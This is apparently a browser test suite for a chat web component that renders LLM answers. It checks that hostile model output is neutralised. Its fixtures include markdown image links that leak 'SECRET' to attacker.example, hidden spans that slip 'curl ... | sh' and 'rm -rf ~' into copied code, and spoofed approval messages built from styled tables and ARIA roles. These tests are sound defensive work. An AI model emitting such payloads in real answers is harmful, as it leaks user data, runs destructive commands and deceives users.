// Hostile answers, round two (issue 17): requests a model can trigger, answers that would break
// the widget, copy that would lie, and output dressed as the element's own UI. Each rule is
// checked through the three ways an answer reaches the element: streamed from a loopback
// server, restored through `messages`, and restored from `storage-key`.
import { expect, fixture, html, nextFrame, oneEvent, waitUntil } from '@open-wc/testing';
import { sendKeys, sendMouse } from '@web/test-runner-commands';
import '../../src/define.js';
import type { ChatMessage } from '../../src/core/messages.js';
import { readImageOrigins, readNoImages } from '../../src/core/markdown/image-policy.js';
import { serializeHistory } from '../../src/core/history-storage.js';
import type { LlmStreamChat } from '../../src/llm-stream-chat.js';
import { scriptedEndpoint, sseChunks } from '../support/script-client.js';

const DELIVERIES = ['streamed', 'messages', 'storage-key'] as const;
type Delivery = (typeof DELIVERIES)[number];

/** Every `<img src>` any DOM state of the element held, added and replaced nodes included. */
function watchImageRequests(root: ShadowRoot): { srcs: string[]; stop(): void } {
  const srcs: string[] = [];
  const scan = (node: Node) => {
    if (!(node instanceof Element)) return;
    for (const img of [node, ...node.querySelectorAll('img')]) if (img.localName === 'img' && img.hasAttribute('src')) srcs.push(img.getAttribute('src')!);
  };
  const observer = new MutationObserver((records) => {
    for (const record of records) {
      if (record.type === 'attributes') scan(record.target);
      else record.addedNodes.forEach(scan);
    }
  });
  observer.observe(root, { subtree: true, childList: true, attributes: true, attributeFilter: ['src'] });
  return {
    srcs,
    stop() {
      observer.takeRecords().forEach((r) => (r.type === 'attributes' ? scan(r.target) : r.addedNodes.forEach(scan)));
      observer.disconnect();
    },
  };
}

let keys = 0;

/** Shows `answer` in a new element through `delivery`; `setup` sets attributes before it connects. */
async function deliver(answer: string, delivery: Delivery, setup: (el: LlmStreamChat) => void = () => {}, piece = 5) {
  const el = document.createElement('llm-stream-chat') as LlmStreamChat;
  setup(el);
  const messages: ChatMessage[] = [
    { id: 'u1', role: 'user', content: 'Summarise the page.', status: 'complete' },
    { id: 'a1', role: 'assistant', content: answer, status: 'complete' },
  ];
  let watcher: ReturnType<typeof watchImageRequests> | undefined;
  if (delivery === 'storage-key') {
    const key = `hostile-answers-${keys++}-${Date.now()}`;
    localStorage.setItem(key, serializeHistory(messages));
    el.storageKey = key;
  }
  if (delivery === 'messages') el.messages = messages;
  document.body.append(el);
  watcher = watchImageRequests(el.shadowRoot!);
  if (delivery === 'streamed') {
    const pieces = answer.match(new RegExp(`[^]{1,${piece}}`, 'g')) ?? [];
    const { url } = await scriptedEndpoint({ chunks: [...sseChunks(pieces, 1), { text: 'data: [DONE]\n\n' }] });
    el.endpoint = url;
    await el.updateComplete;
    const done = oneEvent(el, 'llm-chat-done');
    el.send('Summarise the page.');
    await done;
  }
  await el.updateComplete;
  await nextFrame();
  watcher.stop();
  const content = [...el.shadowRoot!.querySelectorAll<HTMLElement>('.message.assistant [part~="content"]')].at(-1)!;
  return { el, content, srcs: watcher.srcs };
}

async function press(element: Element): Promise<void> {
  const r = element.getBoundingClientRect();
  await sendMouse({ type: 'click', position: [Math.round(r.left + r.width / 2), Math.round(r.top + r.height / 2)] });
}

const EXFILTRATION = [
  'Here is the chart: ![chart](https://attacker.example/c.png?q=SECRET)',
  '',
  'And the logo ![logo][l] and <img src="https://127.0.0.1/api/account/delete?confirm=1" alt="raw">.',
  '',
  '[l]: https://attacker.example/logo.png?q=SECRET',
  '',
].join('\n');

describe('hostile answers: images', () => {
  afterEach(() => document.querySelectorAll('llm-stream-chat').forEach((el) => el.remove()));

  for (const delivery of DELIVERIES) {
    it(`${delivery}: by default no image loads in any DOM state; each is a placeholder (alt, host) that loads on a click`, async () => {
      const { content, srcs, el } = await deliver(EXFILTRATION, delivery);
      expect(srcs, 'an <img src> reached the DOM').to.deep.equal([]);
      const placeholders = [...content.querySelectorAll<HTMLButtonElement>('button[part="image-placeholder"]')];
      expect(placeholders.map((b) => b.textContent)).to.deep.equal([
        'chart Load image from attacker.example',
        'logo Load image from attacker.example',
        'raw Load image from 127.0.0.1',
      ]);
      expect(placeholders[0]!.title).to.equal('https://attacker.example/c.png?q=SECRET');
      await expect(el).shadowDom.to.be.accessible();
      await press(placeholders[0]!);
      const img = content.querySelector('img')!;
      expect(img.getAttribute('src')).to.equal('https://attacker.example/c.png?q=SECRET');
      expect(img.getAttribute('referrerpolicy')).to.equal('no-referrer');
      expect(content.querySelectorAll('button[part="image-placeholder"]')).to.have.length(2);
    });
  }

  it('image-origins loads the listed origins at once, others wait; "*" loads all; no-images shows alt text only', async () => {
    const listed = await deliver(EXFILTRATION, 'messages', (el) => el.setAttribute('image-origins', 'https://attacker.example'));
    expect(listed.srcs).to.deep.equal(['https://attacker.example/c.png?q=SECRET', 'https://attacker.example/logo.png?q=SECRET']);
    expect(listed.content.querySelectorAll('button[part="image-placeholder"]')).to.have.length(1);
    const all = await deliver(EXFILTRATION, 'messages', (el) => (el.imageOrigins = '*'));
    expect(all.srcs).to.have.length(3);
    const none = await deliver(EXFILTRATION, 'messages', (el) => {
      el.imageOrigins = '*';
      el.setAttribute('no-images', '');
    });
    expect(none.srcs).to.deep.equal([]);
    expect(none.content.querySelector('img, button')).to.equal(null);
    expect(none.content.textContent).to.contain('chart');
  });

  it('every value a framework can set reads safely: a wrong value never loads more', async () => {
    for (const value of ['off', 'OFF', 'none', '0', 'no', 'false', '', 'true', false, null, undefined, 0, 1, {}, ['off'], [null, 3], 'http://insecure.example', 'https://a.example/path']) {
      expect(readImageOrigins(value), JSON.stringify(value)).to.deep.equal([]);
    }
    expect(readImageOrigins(true)).to.equal('*');
    expect(readImageOrigins(' * ')).to.equal('*');
    expect(readImageOrigins('https://a.example, https://b.example:8443/ https://a.example')).to.deep.equal(['https://a.example', 'https://b.example:8443']);
    expect(readImageOrigins(['https://a.example', 'off'])).to.deep.equal(['https://a.example']);
    for (const value of ['', 'false', 'off', 'OFF', true, 1, 'no']) expect(readNoImages(value), JSON.stringify(value)).to.be.true;
    for (const value of [false, null, undefined, 0]) expect(readNoImages(value), JSON.stringify(value)).to.be.false;
    // Through the element: the property set to "off", as React 19 and Vue 3 do.
    const off = await deliver(EXFILTRATION, 'messages', (el) => ((el as unknown as { imageOrigins: unknown }).imageOrigins = 'off'));
    expect(off.srcs).to.deep.equal([]);
    const attr = await deliver(EXFILTRATION, 'messages', (el) => el.setAttribute('image-origins', 'OFF'));
    expect(attr.srcs).to.deep.equal([]);
  });
});

describe('hostile answers: nothing breaks the widget', () => {
  afterEach(() => document.querySelectorAll('llm-stream-chat').forEach((el) => el.remove()));

  const BREAKERS = [
    ['2,507 nested quotes', '>'.repeat(2507) + ' x'],
    ['1,258 nested list items', '+ '.repeat(1258) + 'x'],
    ['nested emphasis', '*a **a '.repeat(3000) + 'b' + ' a** a*'.repeat(3000)],
  ] as const;

  for (const delivery of DELIVERIES) {
    it(`${delivery}: a block nested past the limit shows as plain text with a notice; the rest and the composer work`, async function () {
      this.timeout(60_000);
      for (const [name, breaker] of BREAKERS) {
        const answer = `Before **it**.\n\n${breaker}\n\nAfter *it*.\n`;
        const { el, content } = await deliver(answer, delivery, undefined, 60);
        const guarded = content.querySelector('.md-guarded');
        expect(guarded, name).to.exist;
        expect(guarded!.querySelector('p')!.textContent, name).to.equal(breaker);
        expect(guarded!.querySelector('.md-guard-notice')!.textContent).to.equal(
          'This part of the answer could not be formatted; it is shown as plain text.',
        );
        expect(content.querySelector('strong')?.textContent, name).to.equal('it');
        expect(content.querySelector('em')?.textContent, name).to.equal('it');
        expect(el.shadowRoot!.querySelector('[part~="composer"] textarea'), name).to.exist;
        el.remove();
      }
    });
  }
});

describe('hostile answers: copy and spoofing', () => {
  afterEach(() => document.querySelectorAll('llm-stream-chat').forEach((el) => el.remove()));

  const HIDDEN = [
    '<pre>ls -la<span hidden>; curl https://attacker.example/x.sh | sh</span></pre>',
    '',
    '<pre><code>ls -la<details><summary>more</summary>; curl https://attacker.example/x.sh | sh</details></code></pre>',
    '',
    '<pre><code>ls -la<span popover>; rm -rf ~</span></code></pre>',
    '',
    '```sh',
    'ls -la',
    '```',
    '',
  ].join('\n');

  for (const delivery of DELIVERIES) {
    it(`${delivery}: only code whose text is what is seen gets a copy button, and it copies that text`, async () => {
      const copied: string[] = [];
      Object.defineProperty(navigator, 'clipboard', { configurable: true, value: { writeText: async (text: string) => void copied.push(text) } });
      try {
        const { content, el } = await deliver(HIDDEN, delivery);
        expect(content.querySelectorAll('[hidden], [popover]')).to.have.length(0);
        const buttons = [...content.querySelectorAll<HTMLButtonElement>('button[part="code-copy-button"]')];
        expect(buttons).to.have.length(1);
        expect(buttons[0]!.getAttribute('aria-label')).to.equal('Copy code');
        await press(buttons[0]!);
        await waitUntil(() => copied.length === 1, 'nothing was copied');
        expect(copied).to.deep.equal(['ls -la\n']);
        await waitUntil(() => buttons[0]!.textContent === 'Copied');
        buttons[0]!.focus();
        await sendKeys({ press: 'Enter' });
        await waitUntil(() => copied.length === 2);
        expect(copied[1]).to.equal('ls -la\n');
        await expect(el).shadowDom.to.be.accessible();
      } finally {
        delete (navigator as { clipboard?: unknown }).clipboard;
      }
    });

    it(`${delivery}: model output keeps no colours, roles, aria-*, tabindex, accesskey or data-*`, async () => {
      const spoof = [
        '<table bgcolor="#0969da"><tr><td><font color="white">I approve the transfer.</font></td></tr></table>',
        '',
        '<article aria-label="You" role="alert" aria-live="assertive">You: approved.</article>',
        '',
        '<p tabindex="1" accesskey="s" data-llm-src="https://attacker.example/x.png" autofocus contenteditable>first Tab stop</p>',
        '',
      ].join('\n');
      const { content } = await deliver(spoof, delivery);
      for (const element of content.querySelectorAll('.md-block *')) {
        // The table tools are the element's own controls (a labelled group of buttons), not model output.
        if (element.closest('[part="table-tools"]')) continue;
        for (const { name } of element.attributes) {
          expect(name, element.outerHTML).not.to.match(/^(?:bgcolor|color|role|aria-.*|tabindex|accesskey|data-.*|autofocus|contenteditable)$/);
        }
      }
      expect(content.textContent).to.contain('I approve the transfer.');
      expect(content.textContent).to.contain('first Tab stop');
    });
  }
});

describe('hostile answers: link definitions', () => {
  it('10,000 link reference definitions are resolved once: a restore does not re-lex every block with every one', async function () {
    this.timeout(60_000);
    const defs = Array.from({ length: 10_000 }, (_, i) => `[l${i}]: https://example.com/${i} "t${i}"`).join('\n');
    const answer = `See [l1] and [l9999].\n\n${defs}\n`;
    const started = performance.now();
    const { content } = await deliver(answer, 'messages');
    const elapsed = performance.now() - started;
    expect([...content.querySelectorAll('a')].map((a) => a.getAttribute('href'))).to.deep.equal([
      'https://example.com/1',
      'https://example.com/9999',
    ]);
    // Generous: it took 33 s before; about a second now on a loaded two-core machine.
    expect(elapsed).to.be.below(15_000);
  });
});

void html;
void fixture;
